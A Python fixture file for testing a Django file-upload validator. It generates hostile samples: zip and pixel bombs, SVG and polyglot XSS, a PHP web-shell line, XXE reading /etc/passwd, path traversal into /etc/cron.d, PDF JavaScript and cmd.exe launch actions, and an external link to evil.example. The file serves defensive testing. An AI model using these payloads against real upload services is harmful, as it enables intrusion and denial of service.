"""Files for the tests, good and hostile, made in code."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>')
RELS = b'<?xml version="1.0"?><Relationships xmlns="r"></Relationships>'


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    file = SimpleUploadedFile("x", content)
    file._name = name  # as a hostile client may send it, past Django's own clean-up
    return file


def office(kind: str = "docx", extra: dict[str, bytes] | None = None, **members: bytes) -> bytes:
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS, main: b"<doc>text</doc>", **(extra or {})}
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def pdf(extra: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog" + extra + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, "red").save(target, kind, **options)
    return target.getvalue()


def photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (30.0, 19.0, 5.0)
    return picture(exif=exif, size=(3000, 1500))


def huge_png() -> bytes:
    """A PNG of 60,000 x 60,000 pixels in a few bytes."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    head = struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zip_of(count: int) -> bytes:
    return office(extra={f"word/part{number}.xml": b"<a/>" for number in range(count)})


def bomb() -> bytes:
    return office(extra={f"word/media/{number}.bin": b"\0" * 40_000_000 for number in range(4)})


def lying_bomb() -> bytes:
    """The directory says one byte, the member unpacks to a million."""
    content = office(extra={"word/media/a.bin": b"\0" * 1_000_000})
    return content.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 1))


def encrypted_flag() -> bytes:
    content = bytearray(office())
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


BOMB, LYING = bomb(), lying_bomb()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PROTECTED = OLE + "EncryptedPackage".encode("utf-16-le")
LINK = (b'<Relationships xmlns="r"><Relationship Id="1" Type="http://x/%s" Target="http://evil.example/a" '
        b'TargetMode="External"/></Relationships>')
MACRO_TYPES = CONTENT_TYPES.replace(
    b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")
XXE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><doc>&x;</doc>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><doc>&b;</doc>'

# name, content, kind asked for, code of the fault
HOSTILE = [
    ("nothing.pdf", b"", "charter", "empty"),
    ("picture.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "photo", "type"),
    ("picture.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "photo", "type"),
    ("page.pdf", b"<html><script>alert(1)</script></html>", "charter", "type"),
    ("both.gif", b"GIF89a/*<script>alert(1)</script>*/", "photo", "type"),
    ("both.jpg", b"GIF89a;<?php system($_GET[0]); ?>", "photo", "type"),
    ("program.exe", b"MZ" + b"\0" * 100, "charter", "type"),
    ("program.pdf", b"MZ" + b"\0" * 100, "charter", "type"),
    ("script.jpg.php", b"<?php echo 1; ?>", "photo", "type"),
    ("old.doc", OLE, "charter", "type"),
    ("archive.zip", office().replace(b"[Content_Types]", b"[Something_xxx]"), "charter", "type"),
    ("archive.jar", zip_of(0).replace(b"word/document.xml", b"META-INF/MAN.MFxx"), "charter", "type"),
    ("protected.docx", PROTECTED, "charter", "password"),
    ("protected.xlsx", PROTECTED, "import", "password"),
    ("protected.pdf", pdf(b"/Encrypt 5 0 R"), "charter", "password"),
    ("encrypted-member.docx", encrypted_flag(), "charter", "password"),
    ("macro.docx", office(extra={"word/vbaProject.bin": b"x"}), "charter", "macro"),
    ("macro-type.docx", office(extra={"[Content_Types].xml": MACRO_TYPES}), "charter", "macro"),
    ("macro.docm", office(extra={"word/vbaProject.bin": b"x"}), "charter", "macro"),
    ("macro4.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "import", "macro"),
    ("activex.docx", office(extra={"word/activeX/activeX1.xml": b"<a/>"}), "charter", "macro"),
    ("script.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert)>>"), "charter", "macro"),
    ("launch.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "charter", "macro"),
    ("links.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "import", "links"),
    ("dde.xlsx", office("xlsx", {"xl/book2.xml": b"<a><ddeLink/></a>"}), "import", "links"),
    ("connections.xlsx", office("xlsx", {"xl/connections.xml": b"<a/>"}), "import", "links"),
    ("template.docx", office(extra={"word/_rels/settings.xml.rels": LINK % b"attachedTemplate"}), "charter", "links"),
    ("frame.docx", office(extra={"word/_rels/document.xml.rels": LINK % b"frame"}), "charter", "links"),
    ("object.docx", office(extra={"word/embeddings/oleObject1.bin": b"x"}), "charter", "links"),
    ("xxe.docx", office(extra={"word/document.xml": XXE}), "charter", "damaged"),
    ("laughs.docx", office(extra={"word/document.xml": LAUGHS}), "charter", "damaged"),
    ("broken.docx", office(extra={"word/document.xml": b"<doc>"}), "charter", "damaged"),
    ("cut.docx", office()[:-40], "charter", "damaged"),
    ("slip.docx", office(extra={"../../etc/cron.d/x": b"x"}), "charter", "damaged"),
    ("absolute.docx", office(extra={"/etc/passwd": b"x"}), "charter", "damaged"),
    ("cut.pdf", pdf()[:-20] + b"x" * 3000, "charter", "damaged"),
    ("cut.png", picture("PNG")[:60], "photo", "damaged"),
    ("cut.jpg", picture()[:300], "photo", "damaged"),
    ("many.docx", zip_of(2500), "charter", "bomb"),
    ("bomb.docx", BOMB, "charter", "bomb"),
    ("lying.docx", LYING, "charter", "damaged"),
    ("huge.png", huge_png(), "photo", "pixels"),
    ("sheet.xlsx", office("xlsx"), "charter", "type"),
    ("charter.docx", office(), "photo", "type"),
    ("bytes.csv", b"a,b\x00c", "import", "type"),
]
